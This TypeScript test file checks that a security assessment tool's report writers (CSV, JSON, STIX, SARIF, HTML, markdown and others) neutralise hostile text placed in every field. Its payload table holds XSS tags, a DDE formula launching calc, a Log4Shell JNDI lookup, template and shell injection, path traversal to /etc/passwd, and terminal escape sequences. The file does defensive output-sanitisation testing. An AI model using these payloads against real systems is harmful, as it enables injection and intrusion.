import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { splitCsv } from '../../src/lib/csv.ts'
import type { Assessment } from '../../src/model.ts'
import { reports, summaryJson, textReport } from '../../src/reports/index.ts'
import type { Report } from '../../src/reports/report.ts'
import { fixture } from './fixture.ts'
import * as schemas from './format-schemas.ts'
import { assertValid, published, wrongs } from './validate.ts'

// Every text of an assessment that is not one of a closed list is filled with what means harm, one kind after the other, and
// every form of the answer is written: none may carry it on as script, formula, escape or anything else that acts. A form
// that joins src/reports is held to this, too.

const kinds: Readonly<Record<string, string>> = {
  markup: '<script>document.title="owned"</script><!-- ]]> </title><img src=x onerror="document.title=1">',
  'addresses that act':
    'javascript:document.title=1 data:text/html,<b> <meta http-equiv="refresh" content="0;url=//x">',
  'end of a script in JSON': '</script\u2028\u2029\\u003c<!--<script>',
  'half of a character': 'a\ud83d',
  'the other half': '\ude00b',
  formula: '=HYPERLINK("http://192.0.2.66/","x")',
  'formula behind a blank': " \t\r\n=cmd|' /C calc'!A0",
  'formula of full width': '＝1+1',
  plus: '+1+1',
  minus: '-1+1|x',
  at: '@SUM(1+1)',
  terminal: '\u001b[2J\u001b]8;;http://192.0.2.66\u0007\u001b]52;c;eA==\u0007\u009b31m\r\b\u0000',
  'turned text': 'exe.\u202ecod\u2066\u200b\ufeff\u00ad\u034f',
  template: '{{7*7}} ${jndi:ldap://192.0.2.66/a} <%= 7*7 %> #{7*7} %n%s {{constructor.constructor("x")()}} {0}',
  shell: '; touch x # $(touch x) `touch x` %COMSPEC% | && -rf',
  prototype: '__proto__',
  constructor: 'constructor',
  'way out': '../../../etc/passwd',
  'yaml and csv': '"\n- scope: x\r\n","',
  markdown: '[x](http://192.0.2.66) ![x](//192.0.2.66/a.png) | `x` **x** www.example.com a@example.com',
  pattern: "x' OR [file:name = 'y'] \\",
  'very long': `x${'\u0301'.repeat(50)}${'A'.repeat(40_000)}<script>`,
  nothing: '',
}

type Schema = Readonly<Record<string, ReturnType<typeof JSON.parse>>>
const schema = published('assessment') as Schema

/** The value with the text in place of each that the schema leaves open; keys of open maps are filled, too. */
function filled(value: unknown, at: Schema, evil: string): unknown {
  if (at.$ref === '#/$defs/Time') return value
  if (typeof at.$ref === 'string') return filled(value, schema.$defs[at.$ref.split('/').at(-1)!] as Schema, evil)
  if (at.anyOf) {
    const fits = (at.anyOf as Schema[]).find((one) => wrongs({ ...one, $defs: schema.$defs }, value).length === 0)
    assert.ok(fits, JSON.stringify(at).slice(0, 200))
    return filled(value, fits, evil)
  }
  if (typeof value === 'string') return at.enum || at.const ? value : evil
  if (Array.isArray(value)) return value.map((one, i) => filled(one, (at.prefixItems?.[i] ?? at.items) as Schema, evil))
  if (value === null || typeof value !== 'object') return value
  const fields = Object.entries(value).flatMap(([key, one]) => {
    const known = at.properties?.[key] as Schema | undefined
    const text = filled(one, known ?? (at.additionalProperties as Schema), evil)
    return known
      ? [[key, text]]
      : [
          [key, text],
          [`${key}${evil.slice(0, 200)}`, text],
          [evil.slice(0, 200), text],
        ]
  })
  return Object.fromEntries(fields as [string, unknown][])
}

/** Names of facts that forms look for. */
const facts = Object.fromEntries(
  'cs-method cs-uri-stem cs-user-agent sc-status SsrfTo SsrfHost ActAsUser ImpersonatedUser Image ParentImage CommandLine Parameters TargetFilename sha256'
    .split(' ')
    .map((name) => [name, 'x']),
)

/** The fixture, filled, with every fact; two findings of it lead to indicators whose names and titles are hostile. */
function hostile(evil: string): Assessment {
  const base = { ...fixture, findings: fixture.findings.map((f) => ({ ...f, facts: { ...f.facts, ...facts } })) }
  const made = filled(JSON.parse(JSON.stringify(base)), schema, evil) as Assessment
  const proof = { stage: 'shell', proves: true, level: 'critical', confidence: 'high', notes: [] } as const
  const [first, second, ...rest] = made.findings
  const digest = 'ab'.repeat(32)
  return {
    ...made,
    findings: [
      { ...first!, ...proof, client: '203.0.113.5', facts: { ...first!.facts, sha256: digest } },
      { ...second!, ...proof, target: '/aspnet_client/x.aspx', cves: ['CVE-2021-26855'], attack: ['T1190', evil] },
      ...rest,
    ],
    actors: made.actors.map((actor) => ({ ...actor, named: true })),
  }
}

/** Own keys of the prototype of all objects, some of which a hostile key could have made. */
const clean = Object.getOwnPropertyNames(Object.prototype).sort()

const acts = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff]/
const exact = ['json', 'findings', 'coverage'] // they carry the evidence as it stands, escaped
const closedForms: Readonly<Record<string, object>> = {
  stix: schemas.stixSchema,
  misp: schemas.mispSchema,
  navigator: schemas.navigatorSchema,
  case: schemas.caseSchema,
  iris: schemas.irisSchema,
  sarif: schemas.sarifSchema,
  'timesketch-jsonl': schemas.timesketchSchema,
  ecs: schemas.ecsSchema,
  ocsf: schemas.ocsfSchema,
}

const harmless = hostile('x')

describe('hostile text in every field of an assessment', () => {
  for (const [kind, evil] of Object.entries(kinds)) {
    it(kind, () => {
      const assessment = hostile(evil)
      for (const report of reports)
        for (const victim of report.shared ? [false, true] : [false]) {
          const sharing = { victim, tlp: null }
          const written = [...report.write(assessment, sharing)].join('')
          assert.equal([...report.write(assessment, sharing)].join(''), written, `${report.name}: other bytes`)
          assert.ok(written.isWellFormed(), `${report.name}: half of a character`)
          const found = acts.exec(written)
          assert.equal(found === null ? null : JSON.stringify(found[0]), null, `${report.name}: acts`)
          if (report.file.endsWith('.csv')) checkTable(report, written)
          else if (/json|ndjson|sarif/.test(report.file)) checkJson(report, written, evil)
          else checkPage(report, written, [...report.write(harmless)].join(''))
        }
      for (const text of [textReport(assessment, { colour: false, width: 80 })])
        assert.doesNotMatch(text.replaceAll('\n', ''), acts)
      JSON.parse(summaryJson([{ assessment, path: 'x' }]))
      assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), clean)
    })
  }
})

function checkTable(report: Report, written: string): void {
  const rows = written.split('\r\n').slice(0, -1)
  const cells = rows.map((row) => splitCsv(row))
  for (const { values, open } of cells) {
    assert.equal(open, false)
    assert.equal(values.length, cells[0]!.values.length, `${report.name}: a cell spills`)
    for (const value of values) {
      assert.doesNotMatch(value, /^[\s"]*[=+@|%＝＋－＠]|^[\s"]*-\D/, report.name)
      assert.ok(value.length <= 32_767, `${report.name}: longer than a cell`)
    }
  }
}

function checkJson(report: Report, written: string, evil: string): void {
  assert.ok(!written.includes('<'), `${report.name}: markup`)
  const lines = /\.(?:jsonl|ndjson)$/.test(report.file)
  const values = lines ? written.split('\n').slice(0, -1) : [written]
  for (const text of values) {
    const value: unknown = JSON.parse(text)
    const form = closedForms[report.name]
    // Servers, rules and campaigns always have a name; without one a form lacks what it must have.
    if (form && evil !== '') assertValid(form, value, report.name)
    if (!exact.includes(report.name)) everyText(value, (one) => checkText(report, one))
  }
}

function checkText(report: Report, text: string): void {
  assert.ok(text.isWellFormed(), report.name)
  assert.ok(text.length < 10_000 || report.name === 'iris', `${report.name}: ${text.length} characters`)
  assert.doesNotMatch(text.replaceAll('\r\n', ''), acts, report.name)
}

function everyText(value: unknown, see: (text: string) => void): void {
  if (typeof value === 'string') see(value)
  else if (value !== null && typeof value === 'object')
    for (const [key, one] of Object.entries(value)) {
      see(key)
      everyText(one, see)
    }
}

function checkPage(report: Report, written: string, harmless: string): void {
  // As many tags and handlers as where every text is harmless: none is the evidence's.
  const tags = (page: string): Record<string, number> => {
    const count: Record<string, number> = {}
    for (const [tag] of page.matchAll(
      /<!--|<(?:script|style|img|meta|base|form|iframe|object|math|title|a)\b|<[^<>]*\son\w+=/gi,
    ))
      count[tag.toLowerCase()] = (count[tag.toLowerCase()] ?? 0) + 1
    return count
  }
  assert.deepEqual(tags(written), tags(harmless), report.name)
  if (report.name === 'markdown') assert.doesNotMatch(written, /https?:\/\/|javascript:[^&]*\]\(/)
}
